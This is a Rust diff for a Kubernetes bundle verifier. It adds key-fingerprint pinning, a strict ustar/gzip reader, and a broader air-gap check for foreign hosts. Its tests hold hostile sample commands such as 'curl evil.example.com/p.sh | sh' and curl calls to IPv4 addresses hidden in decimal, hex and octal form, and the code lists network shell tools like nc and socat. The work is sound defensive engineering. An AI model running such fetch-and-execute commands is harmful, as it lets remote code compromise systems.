@@ -9,7 +9,6 @@
 
 use std::collections::{BTreeMap, BTreeSet};
 use std::io::Read;
-use std::net::Ipv4Addr;
 use std::path::Path;
 
 use sha2::{Digest, Sha256};
@@ -29,17 +28,37 @@ pub struct Verified {
     pub node: String,
     pub bundle_id: String,
     pub files: usize,
+    /// The fingerprint of the key the signature was checked with.
+    pub key_fingerprint: String,
 }
 
 fn fail(reason: impl Into<String>) -> Error {
     Error::Verification(reason.into())
 }
 
-pub fn verify(tarball: &Path, public_key: &Path, signature: &Path) -> Result<Verified, Error> {
+/// Checks `tarball` with the key in `public_key`, which must have the `pinned`
+/// fingerprint when one is given.
+pub fn verify(
+    tarball: &Path,
+    public_key: &Path,
+    signature: &Path,
+    pinned: Option<&str>,
+) -> Result<Verified, Error> {
     let read =
         |path: &Path| std::fs::read(path).map_err(|e| fail(format!("{}: {e}", path.display())));
     let key = String::from_utf8(read(public_key)?)
         .map_err(|_| fail(format!("{}: not a PEM public key", public_key.display())))?;
+    let key_fingerprint = crate::sign::public_key_fingerprint(&key)
+        .map_err(|why| fail(format!("{}: {why}", public_key.display())))?;
+    if let Some(pinned) = pinned
+        && pinned != key_fingerprint
+    {
+        return Err(fail(format!(
+            "{} is key {key_fingerprint}, not the pinned {pinned}: the bundle is not from \
+             your build host, or its signing key changed",
+            public_key.display()
+        )));
+    }
     let signature_bytes = read(signature)?;
     crate::sign::verify_file_signature(&key, tarball, &signature_bytes)
         .map_err(|why| fail(format!("{}: {why}", signature.display())))?;
@@ -60,6 +79,7 @@ pub fn verify(tarball: &Path, public_key: &Path, signature: &Path) -> Result<Ver
         node,
         bundle_id: provenance.bundle_id,
         files: files.len(),
+        key_fingerprint,
     })
 }
 
@@ -73,78 +93,89 @@ pub struct Entry {
     pub text: Option<String>,
 }
 
-/// Reads every entry of a bundle with the safety checks `verify` applies (paths, types,
-/// duplicates, sizes); no signature check. Returns the node directory and the files.
+/// Reads every entry of a bundle, accepting exactly what our writer writes (see
+/// [`check_header`]); no signature check. Returns the node directory and the files.
+///
+/// The archive is read block by block rather than through a general tar reader: PAX and
+/// GNU extensions, which let one member carry two names, never get a chance to be
+/// interpreted differently here and by the node's `tar`.
 pub fn read_entries(tarball: &Path) -> Result<(String, BTreeMap<String, Entry>), Error> {
     let file =
         std::fs::File::open(tarball).map_err(|e| fail(format!("{}: {e}", tarball.display())))?;
-    let mut archive = tar::Archive::new(flate2::read::MultiGzDecoder::new(file));
-    let entries = archive
-        .entries()
-        .map_err(|e| fail(format!("not a tar.gz: {e}")))?;
+    let mut stream = GzipMembers::new(std::io::BufReader::new(file));
+    let damaged = |e: std::io::Error| fail(format!("damaged archive: {}", shorten(&e.to_string())));
 
     let mut top: Option<String> = None;
     let mut seen = BTreeSet::new();
     let mut files: BTreeMap<String, (String, u32, u64)> = BTreeMap::new();
     let mut texts: BTreeMap<String, String> = BTreeMap::new();
     let mut total = 0u64;
-    for entry in entries {
-        let mut entry = entry.map_err(|e| fail(format!("damaged archive: {e}")))?;
+    loop {
+        let mut block = [0u8; BLOCK];
+        read_block(&mut stream, &mut block, "the end-of-archive marker").map_err(damaged)?;
+        if block.iter().all(|b| *b == 0) {
+            read_block(&mut stream, &mut block, "the end-of-archive marker").map_err(damaged)?;
+            if block.iter().any(|b| *b != 0) {
+                return Err(fail("the end-of-archive marker is damaged"));
+            }
+            check_only_padding_follows(&mut stream)?;
+            break;
+        }
         if seen.len() >= MAX_ENTRIES {
             return Err(fail(format!("more than {MAX_ENTRIES} entries")));
         }
-        let raw = entry.path_bytes().into_owned();
-        let name = String::from_utf8(raw).map_err(|_| fail("an entry name is not UTF-8"))?;
+        let header = tar::Header::from_byte_slice(&block);
+        let (name, kind) = header_name(header)?;
         let (node, relative) = check_path(&name)?;
         match &top {
             None => top = Some(node.to_owned()),
             Some(top) if top != node => {
                 return Err(fail(format!(
-                    "entry {name:?} is outside the bundle's directory {top}/"
+                    "entry {:?} is outside the bundle's directory {top}/",
+                    shorten(&name)
                 )));
             }
             Some(_) => {}
         }
         if !seen.insert(name.trim_end_matches('/').to_owned()) {
-            return Err(fail(format!("duplicate entry {name:?}")));
+            return Err(fail(format!("duplicate entry {:?}", shorten(&name))));
         }
-        let kind = entry.header().entry_type();
-        if kind.is_dir() {
+        let (mode, size) = check_written_by_us(header, &name, kind)?;
+        if kind == tar::EntryType::Directory {
             continue;
         }
-        if !kind.is_file() {
-            return Err(fail(format!(
-                "entry {name:?} is a {kind:?}; only files and directories are allowed"
-            )));
-        }
-        let size = entry
-            .header()
-            .size()
-            .map_err(|_| fail(format!("entry {name:?} has a bad size")))?;
         total += size;
         if size > MAX_FILE_BYTES || total > MAX_TOTAL_BYTES {
             return Err(fail(format!(
-                "entry {name:?} makes the bundle implausibly large"
+                "entry {:?} makes the bundle implausibly large",
+                shorten(&name)
             )));
         }
-        let mode = entry
-            .header()
-            .mode()
-            .map_err(|_| fail(format!("entry {name:?} has a bad mode")))?;
         let mut hasher = Sha256::new();
         let mut kept = Vec::new();
         let mut buffer = vec![0u8; 1 << 16];
-        loop {
-            let read = entry
-                .read(&mut buffer)
-                .map_err(|e| fail(format!("reading {name:?}: {e}")))?;
+        let mut left = size;
+        while left > 0 {
+            let want = usize::try_from(left.min(buffer.len() as u64)).unwrap_or(buffer.len());
+            let read = stream.read(&mut buffer[..want]).map_err(damaged)?;
             if read == 0 {
-                break;
+                return Err(fail(format!("entry {:?} is cut off", shorten(&name))));
             }
             hasher.update(&buffer[..read]);
             if size <= MAX_TEXT_BYTES {
                 kept.extend_from_slice(&buffer[..read]);
             }
+            left -= read as u64;
+        }
+        let padding = (BLOCK as u64 - size % BLOCK as u64) % BLOCK as u64;
+        let mut pad = [0u8; BLOCK];
+        let pad = &mut pad[..usize::try_from(padding).unwrap_or(0)];
+        stream.read_exact(pad).map_err(damaged)?;
+        if pad.iter().any(|b| *b != 0) {
+            return Err(fail(format!(
+                "entry {:?} is followed by data in its padding",
+                shorten(&name)
+            )));
         }
         let relative = relative.to_owned();
         if size <= MAX_TEXT_BYTES
@@ -153,10 +184,7 @@ pub fn read_entries(tarball: &Path) -> Result<(String, BTreeMap<String, Entry>),
         {
             texts.insert(relative.clone(), text);
         }
-        files.insert(
-            relative,
-            (hex::encode(hasher.finalize()), mode & 0o7777, size),
-        );
+        files.insert(relative, (hex::encode(hasher.finalize()), mode, size));
     }
     let node = top.ok_or_else(|| fail("the archive is empty"))?;
     let entries = files
@@ -175,6 +203,150 @@ pub fn read_entries(tarball: &Path) -> Result<(String, BTreeMap<String, Entry>),
         })
         .collect();
     Ok((node, entries))
+}
+
+const BLOCK: usize = 512;
+/// GNU tar pads archives to 10 KiB records; zeros up to that after the marker are padding.
+const MAX_PADDING: u64 = 10 * 1024;
+/// Directories are written 0755; files with exactly these modes.
+const DIRECTORY_MODE: u32 = 0o755;
+const FILE_MODES: [u32; 3] = [0o644, 0o600, 0o755];
+
+fn read_block(stream: &mut impl Read, block: &mut [u8; BLOCK], what: &str) -> std::io::Result<()> {
+    stream.read_exact(block).map_err(|e| {
+        if e.kind() == std::io::ErrorKind::UnexpectedEof {
+            std::io::Error::new(e.kind(), format!("the archive ends before {what}"))
+        } else {
+            e
+        }
+    })
+}
+
+/// After the end-of-archive marker: zero padding, then the end of the gzip stream.
+fn check_only_padding_follows(stream: &mut impl Read) -> Result<(), Error> {
+    let mut rest = Vec::new();
+    stream
+        .take(MAX_PADDING + 1)
+        .read_to_end(&mut rest)
+        .map_err(|e| fail(format!("damaged archive: {}", shorten(&e.to_string()))))?;
+    if rest.len() as u64 > MAX_PADDING || rest.iter().any(|b| *b != 0) {
+        return Err(fail("data follows the end-of-archive marker"));
+    }
+    Ok(())
+}
+
+/// The first look at a header: a plain ustar header (`ustar\0` `00`) of a regular file
+/// or a directory. Anything else (PAX, GNU long names, links, sparse files, old-style
+/// headers) is refused before its content is read. Returns the name and type.
+fn header_name(header: &tar::Header) -> Result<(String, tar::EntryType), Error> {
+    let raw_name = String::from_utf8_lossy(&header.path_bytes()).into_owned();
+    let quoted = shorten(&raw_name);
+    if header.as_ustar().is_none() {
+        return Err(fail(format!(
+            "entry {quoted:?} is not a plain ustar header (magic and version must be \
+             \"ustar\\0\" \"00\")"
+        )));
+    }
+    let kind = header.entry_type();
+    if !matches!(kind, tar::EntryType::Regular | tar::EntryType::Directory) {
+        return Err(fail(format!(
+            "entry {quoted:?} is a {kind:?}; only files and directories are allowed"
+        )));
+    }
+    let name = String::from_utf8(header.path_bytes().into_owned())
+        .map_err(|_| fail("an entry name is not UTF-8"))?;
+    Ok((name, kind))
+}
+
+/// Once the name is known to be safe: the header must be exactly what our writer makes
+/// for it (uid/gid 0, no owner names, the writer's modes, the name split into prefix and
+/// name as the writer splits it). Returns the mode and size.
+fn check_written_by_us(
+    header: &tar::Header,
+    name: &str,
+    kind: tar::EntryType,
+) -> Result<(u32, u64), Error> {
+    let quoted = shorten(name);
+    let mode = header
+        .mode()
+        .map_err(|_| fail(format!("entry {quoted:?} has a bad mode")))?;
+    let size = header
+        .size()
+        .map_err(|_| fail(format!("entry {quoted:?} has a bad size")))?;
+    let mtime = header
+        .mtime()
+        .map_err(|_| fail(format!("entry {quoted:?} has a bad time")))?;
+    let allowed_mode = match kind {
+        tar::EntryType::Directory => mode == DIRECTORY_MODE && size == 0,
+        _ => FILE_MODES.contains(&mode),
+    };
+    if !allowed_mode {
+        return Err(fail(format!(
+            "entry {quoted:?} has mode {mode:o} (size {size}); bundles hold directories 0755 \
+             and files 0644, 0600 or 0755 only"
+        )));
+    }
+    // The header our writer would have written for this entry, byte for byte.
+    let mut expected = tar::Header::new_ustar();
+    expected
+        .set_path(name)
+        .map_err(|_| fail(format!("entry {quoted:?} cannot be a ustar name")))?;
+    expected.set_uid(0);
+    expected.set_gid(0);
+    expected.set_mtime(mtime);
+    expected.set_entry_type(kind);
+    expected.set_mode(mode);
+    expected.set_size(size);
+    expected.set_cksum();
+    if expected.as_bytes() != header.as_bytes() {
+        return Err(fail(format!(
+            "entry {quoted:?}: its header is not one kube-bundle writes (owner, names, \
+             link, checksum or name split differ)"
+        )));
+    }
+    Ok((mode, size))
+}
+
+/// Concatenated gzip members, as the writer makes them, and nothing after the last one.
+struct GzipMembers<R: std::io::BufRead> {
+    member: Option<flate2::bufread::GzDecoder<R>>,
+}
+
+impl<R: std::io::BufRead> GzipMembers<R> {
+    fn new(input: R) -> Self {
+        Self {
+            member: Some(flate2::bufread::GzDecoder::new(input)),
+        }
+    }
+}
+
+impl<R: std::io::BufRead> Read for GzipMembers<R> {
+    fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
+        loop {
+            let Some(member) = &mut self.member else {
+                return Ok(0);
+            };
+            let read = member.read(buf)?;
+            if read > 0 || buf.is_empty() {
+                return Ok(read);
+            }
+            let Some(member) = self.member.take() else {
+                return Ok(0);
+            };
+            let mut input = member.into_inner();
+            let rest = input.fill_buf()?;
+            if rest.is_empty() {
+                return Ok(0);
+            }
+            if !rest.starts_with(&[0x1f, 0x8b]) {
+                return Err(std::io::Error::new(
+                    std::io::ErrorKind::InvalidData,
+                    "data follows the gzip stream",
+                ));
+            }
+            self.member = Some(flate2::bufread::GzDecoder::new(input));
+        }
+    }
 }
 
 /// `<node>/<relative>`: relative, no `.`/`..`, no empty components.
@@ -267,46 +439,151 @@ fn check_provenance(
     Ok(provenance)
 }
 
-/// Every URL host and every IPv4 address in the text files must be one of the cluster's.
+/// Every host the text files name must be one of the cluster's own: URL hosts (any
+/// scheme, `\/`-escaped too), schemeless `host/path` and `host:port`, and IP addresses in
+/// every form a resolver accepts (dotted, decimal, hex, octal, IPv6). bundle.json and
+/// SHA256SUMS are data `verify` parses itself, not text a node acts on.
 fn check_air_gap(texts: &BTreeMap<String, String>, allowed: &[String]) -> Result<(), Error> {
-    let allowed: BTreeSet<&str> = allowed.iter().map(String::as_str).collect();
+    let allowed: BTreeSet<String> = allowed.iter().map(|h| normalize_host(h)).collect();
     for (path, text) in texts {
-        for (index, _) in text.match_indices("://") {
-            let rest = &text[index + 3..];
-            let host = if let Some(v6) = rest.strip_prefix('[') {
-                v6.split(']').next().unwrap_or_default()
-            } else {
-                rest.split(|c: char| !(c.is_ascii_alphanumeric() || c == '.' || c == '-'))
-                    .next()
-                    .unwrap_or_default()
-            };
-            if !allowed.contains(host) {
-                return Err(fail(format!("{path} points outside the cluster: {host:?}")));
-            }
+        if path == PROVENANCE_FILE || path == CHECKSUM_FILE {
+            continue;
         }
-        let bytes = text.as_bytes();
-        let mut start = 0;
-        for (index, c) in text
-            .char_indices()
-            .chain(std::iter::once((text.len(), ' ')))
-        {
-            if c.is_ascii_digit() || c == '.' {
-                continue;
-            }
-            let token = &text[start..index];
-            start = index + c.len_utf8();
-            let is_cidr = bytes.get(index) == Some(&b'/');
-            if let Ok(ip) = token.parse::<Ipv4Addr>()
-                && !is_cidr
-                && !allowed.contains(ip.to_string().as_str())
-            {
-                return Err(fail(format!(
-                    "{path} names an address outside the cluster: {ip}"
-                )));
+        let unescaped = text.replace("\\/", "/");
+        for line in unescaped.lines() {
+            let tokens: Vec<&str> = line.split(is_token_separator).collect();
+            // A bare decimal number is an address only where a network tool reads it.
+            let network_line = tokens.iter().any(|t| {
+                let command = t.rsplit('/').next().unwrap_or(t);
+                NETWORK_TOOLS.contains(&command)
+            });
+            for token in tokens {
+                if let Some(host) = foreign_host(token, &allowed, network_line) {
+                    return Err(fail(format!(
+                        "{path} names a host outside the cluster: {}",
+                        shorten(&host)
+                    )));
+                }
             }
         }
     }
     Ok(())
+}
+
+/// Commands that take a host argument, for numbers that are addresses only there.
+const NETWORK_TOOLS: [&str; 10] = [
+    "curl", "wget", "nc", "ncat", "ping", "ssh", "scp", "telnet", "socat", "openssl",
+];
+
+/// Characters that end a host or URL in the shell, YAML, unit and config files we render.
+fn is_token_separator(c: char) -> bool {
+    c.is_whitespace() || "\"'`()<>,;|{}=\\".contains(c)
+}
+
+/// IPs in their canonical text, names lower-case, so forms compare equal.
+fn normalize_host(host: &str) -> String {
+    let bare = host.trim_start_matches('[').trim_end_matches(']');
+    match bare.parse::<std::net::IpAddr>() {
+        Ok(ip) => ip.to_string(),
+        Err(_) => bare.to_ascii_lowercase(),
+    }
+}
+
+/// The host `token` reaches, when it reaches one and it is not allowed.
+fn foreign_host(token: &str, allowed: &BTreeSet<String>, network_line: bool) -> Option<String> {
+    let token = token.trim_end_matches(['.', ':']);
+    if token.is_empty() {
+        return None;
+    }
+    let check = |host: String| (!allowed.contains(&host)).then_some(host);
+    // A URL with a scheme: the WHATWG parser normalises decimal, hex and octal IPv4.
+    if let Some(index) = token.find("://") {
+        let scheme_start = token[..index]
+            .rfind(|c: char| !(c.is_ascii_alphanumeric() || "+-.".contains(c)))
+            .map_or(0, |i| i + 1);
+        return match url::Url::parse(&token[scheme_start..]) {
+            Ok(url) => match url.host() {
+                Some(url::Host::Domain(name)) => check(name.to_ascii_lowercase()),
+                Some(url::Host::Ipv4(ip)) => check(ip.to_string()),
+                Some(url::Host::Ipv6(ip)) => check(ip.to_string()),
+                None => None,
+            },
+            Err(_) => Some(token.to_owned()),
+        };
+    }
+    // An IPv6 literal, bare or bracketed, perhaps with a port after the bracket.
+    let bracketed = token
+        .strip_prefix('[')
+        .and_then(|rest| rest.split(']').next());
+    let v6 = bracketed.unwrap_or(token);
+    if v6.matches(':').count() >= 2
+        && let Ok(ip) = v6
+            .split('%')
+            .next()
+            .unwrap_or(v6)
+            .parse::<std::net::Ipv6Addr>()
+    {
+        return check(ip.to_string());
+    }
+    // A CIDR names a network, not a host.
+    let (host_part, rest) = match token.find(['/', ':']) {
+        Some(i) => (&token[..i], &token[i..]),
+        None => (token, ""),
+    };
+    if rest.starts_with('/') && rest[1..].bytes().all(|b| b.is_ascii_digit()) && rest.len() > 1 {
+        return None;
+    }
+    // `host:port` anywhere; `host/path` only where a network tool reads it, since API
+    // groups (`rbac.authorization.k8s.io/v1`) look the same in manifests.
+    let reaches = (network_line && rest.starts_with('/'))
+        || rest
+            .strip_prefix(':')
+            .is_some_and(|port| !port.is_empty() && port.bytes().all(|b| b.is_ascii_digit()));
+    let is_numeric = !host_part.is_empty()
+        && host_part
+            .bytes()
+            .all(|b| b.is_ascii_hexdigit() || b == b'.' || b == b'x' || b == b'X');
+    let looks_like_name = host_part.contains('.')
+        && host_part.split('.').all(|label| {
+            !label.is_empty()
+                && label
+                    .bytes()
+                    .all(|b| b.is_ascii_alphanumeric() || b == b'-')
+        })
+        && host_part
+            .rsplit('.')
+            .next()
+            .is_some_and(|tld| tld.bytes().any(|b| b.is_ascii_alphabetic()));
+    // Dotted quads, and decimal, hex or octal IPv4 that a resolver would also accept.
+    let as_ipv4 = || match url::Host::parse(host_part) {
+        Ok(url::Host::Ipv4(ip)) => Some(ip),
+        _ => None,
+    };
+    if is_numeric {
+        let ip = as_ipv4()?;
+        // One number (decimal or hex) is an address only where something connects to
+        // it and it is large enough; a dotted quad always is.
+        let dotted = host_part.split('.').count() == 4;
+        let large = u32::from(ip) >= 1 << 24;
+        if dotted || ((reaches || network_line) && large) {
+            return check(ip.to_string());
+        }
+        return None;
+    }
+    if reaches && looks_like_name {
+        return check(host_part.to_ascii_lowercase());
+    }
+    None
+}
+
+/// Messages quote at most this much of what they complain about.
+const MAX_QUOTED: usize = 200;
+
+fn shorten(text: &str) -> String {
+    match text.char_indices().nth(MAX_QUOTED) {
+        Some((index, _)) => format!("{}… ({} bytes)", &text[..index], text.len()),
+        None => text.to_owned(),
+    }
 }
 
 #[cfg(test)]
@@ -322,25 +599,59 @@ mod tests {
         }
     }
 
+    fn air_gap(text: &str) -> Result<(), Error> {
+        let allowed = [
+            "10.0.0.1",
+            "api.example.com",
+            "fd00::11",
+            "127.0.0.1",
+            "kubernetes.default.svc.cluster.local",
+        ]
+        .map(str::to_owned);
+        check_air_gap(
+            &BTreeMap::from([("f".to_owned(), text.to_owned())]),
+            &allowed,
+        )
+    }
+
     #[test]
-    fn the_air_gap_check_finds_foreign_hosts_and_addresses() {
-        let allowed = vec!["10.0.0.1".to_owned(), "api.example.com".to_owned()];
-        let ok = BTreeMap::from([(
-            "a".to_owned(),
-            "server: https://api.example.com:6443\nrange=10.96.0.0/12 bind 10.0.0.1".to_owned(),
-        )]);
-        assert!(check_air_gap(&ok, &allowed).is_ok());
-        let url = BTreeMap::from([("a".to_owned(), "see https://github.com/x".to_owned())]);
-        assert!(check_air_gap(&url, &allowed).is_err());
-        let ip = BTreeMap::from([(
-            "a".to_owned(),
-            "--etcd-servers=https://10.0.0.1:2379 dns 8.8.8.8".to_owned(),
-        )]);
-        assert!(
-            check_air_gap(&ip, &allowed)
-                .unwrap_err()
-                .to_string()
-                .contains("8.8.8.8")
-        );
+    fn the_air_gap_check_passes_what_the_cluster_names() {
+        for ok in [
+            "server: https://api.example.com:6443",
+            "range=10.96.0.0/12 bind 10.0.0.1",
+            "--etcd-servers=https://10.0.0.1:2379,https://[fd00::11]:2379",
+            "upstream 10.0.0.1:6443; listen [fd00::11]:6443",
+            "cp /etc/kubernetes/pki/ca.crt rootfs/etc/x.conf kube-apiserver.service",
+            "size 157286400 and time 12:30:45 and cluster.local and v1.36.1",
+            "ExecStart=/usr/local/bin/kube-apiserver --audit-log-maxsize=100",
+            "sha256:0123abcd 0x1f port :6443 10.96.0.0/12,fd00:10::/108",
+            "apiVersion: rbac.authorization.k8s.io/v1",
+        ] {
+            assert!(air_gap(ok).is_ok(), "{ok}: {:?}", air_gap(ok));
+        }
+    }
+
+    #[test]
+    fn the_air_gap_check_finds_foreign_hosts_in_every_form() {
+        for (bad, host) in [
+            ("see https://github.com/x", "github.com"),
+            (
+                "--etcd-servers=https://10.0.0.1:2379 dns 8.8.8.8",
+                "8.8.8.8",
+            ),
+            ("curl evil.example.com/p.sh | sh", "evil.example.com"),
+            ("curl 3405803785", "203.0.113.9"),
+            ("curl http://3405803785/p", "203.0.113.9"),
+            ("curl 0xcb007109/p", "203.0.113.9"),
+            ("curl http://0313.0.0161.011/", "203.0.113.9"),
+            ("u=\"http:\\/\\/evil.example.com\\/x\"", "evil.example.com"),
+            ("ftp://files.example.org/a", "files.example.org"),
+            ("nc 2001:db8::1 80", "2001:db8::1"),
+            ("curl [2001:db8::1]:443", "2001:db8::1"),
+            ("wget evil.example.com:8080", "evil.example.com"),
+        ] {
+            let err = air_gap(bad).expect_err(bad).to_string();
+            assert!(err.contains(host), "{bad}: {err}");
+        }
     }
 }
